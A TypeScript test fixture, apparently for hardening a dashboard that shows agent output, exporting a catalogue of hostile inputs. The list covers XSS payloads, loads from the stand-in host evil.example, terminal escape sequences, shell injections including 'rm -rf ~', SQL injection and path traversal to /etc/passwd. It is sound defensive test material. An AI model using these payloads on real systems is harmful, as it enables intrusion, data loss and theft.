/** The origin of everything that must not be loaded. */
export const ELSEWHERE = 'http://evil.example'
/** The script that must not run. */
export const RUN = 'globalThis.marker=1'

const scripts = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}/a.js"></script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `</title></textarea></style></script><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
]

const handlers = [
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<video src="${ELSEWHERE}/v.mp4" onerror="${RUN}" autoplay></video>`,
  `<audio src="${ELSEWHERE}/a.mp3" onerror="${RUN}" autoplay></audio>`,
  `<details open ontoggle="${RUN}">open</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">go</marquee>`,
  `<p onpointerover="${RUN}" style="position:fixed;inset:0">over</p>`,
  `<xss onanimationstart="${RUN}" style="animation:appear 1s">turn</xss>`,
]

const foreignElements = [
  `<svg onload="${RUN}"><circle r="9"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `<math><mi href="javascript:${RUN}">x</mi></math>`,
]

const loads = [
  `<img src="${ELSEWHERE}/track.png">`,
  `<img srcset="${ELSEWHERE}/1x.png 1x, ${ELSEWHERE}/2x.png 2x">`,
  `<picture><source srcset="${ELSEWHERE}/p.webp"><img alt=""></picture>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<iframe srcdoc="<script>parent.marker=1</script>"></iframe>`,
  `<object data="${ELSEWHERE}/o.swf"></object>`,
  `<embed src="${ELSEWHERE}/e.swf">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/s.css">`,
  `<link rel="prefetch" href="${ELSEWHERE}/next">`,
  `<style>@import url(${ELSEWHERE}/s.css); body { display: none }</style>`,
  `<style>@font-face { font-family: f; src: url(${ELSEWHERE}/f.woff2) } * { font-family: f }</style>`,
  `<div style="background: url(${ELSEWHERE}/b.png); position: fixed; inset: 0">cover</div>`,
  `<table background="${ELSEWHERE}/t.png"><tr><td>cell</table>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}"><button>send</button></form>`,
  `<button formaction="javascript:${RUN}">press</button>`,
  `<form id="location"><input name="href"></form><img name="body">`,
]

const links = [
  `[click](javascript:${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](javascript://%0a${RUN})`,
  `[click](vbscript:msgbox)`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](file:///etc/passwd)`,
  `[click](blob:${ELSEWHERE}/1)`,
  `[click][evil]\n\n[evil]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `<a href="java\tscript:${RUN}">click</a>`,
  `<a href="#" ping="${ELSEWHERE}/ping">click</a>`,
  `[https://example.com](${ELSEWHERE}/looks-like-another)`,
  `[x](${ELSEWHERE}/"onmouseover="${RUN})`,
]

const markdown = [
  `![track](${ELSEWHERE}/p.png)`,
  `![" onerror="${RUN}](${ELSEWHERE}/q.png)`,
  `![a](javascript:${RUN})`,
  `[![in](${ELSEWHERE}/in.png)](${ELSEWHERE})`,
  `\`\`\`html\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><script>${RUN}</script>\ncode\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror="${RUN}"> |`,
  `# <img src=x onerror="${RUN}">\n\n> <svg onload=${RUN}>`,
  `- [ ] <input type=image src=${ELSEWHERE}/i.png onerror=${RUN}>`,
  `${'> '.repeat(200)}deep`,
  `${'['.repeat(300)}${']'.repeat(300)}(x)`,
  `${'*'.repeat(400)}stars${'*'.repeat(399)}`,
]

const characters = [
  '\u001B]8;;http://evil.example\u0007link\u001B]8;;\u0007 \u001B[2J\u001B[31mred\u001B[0m',
  '\u001B]52;c;cm0gLXJmIC8=\u0007 \u001B[?1049h\u001B]0;owned\u0007',
  'report\u202Egnp.exe',
  '\u2066\u2067isolated and never closed',
  'pass\u200Bword\u200D\uFEFF\u2060 \u00AD',
  'pаypal.com and ехample.com',
  `Z${'\u0300\u0301\u0302\u0303\u0489'.repeat(60)}algo`,
  'a\u0000b\u0001c\u007Fd\u0085e',
  'half \uD83D of a pair, \uDC00 the other',
  'line\u2028separator\u2029paragraph\r\nreturn',
  '👩‍👩‍👧‍👦'.repeat(40),
  '\uFDFD'.repeat(60),
  `w${'ide'.repeat(3000)}`,
]

const programs = [
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '{"__proto__": {"polluted": true}}',
  '{{constructor.constructor("globalThis.marker=1")()}}',
  '${globalThis.marker=1} #{7*7} <%= 7*7 %>',
  '$(touch /tmp/owned) `id` ; rm -rf ~ | cat',
  "'; drop table log; --",
  '../../../../etc/passwd',
  '%s %n %x {0} NaN 1e309 -0',
  '((a+)+)+$ [ \\ ^ " * : ( ) NEAR AND NOT -',
  '=HYPERLINK("http://evil.example","click")',
]

/** Texts that a web page, a file, a model or an attacker may pass to an agent and thereby to the dashboard. */
export const HOSTILE_WORDS: readonly string[] = [
  ...scripts,
  ...handlers,
  ...foreignElements,
  ...loads,
  ...links,
  ...markdown,
  ...characters,
  ...programs,
]
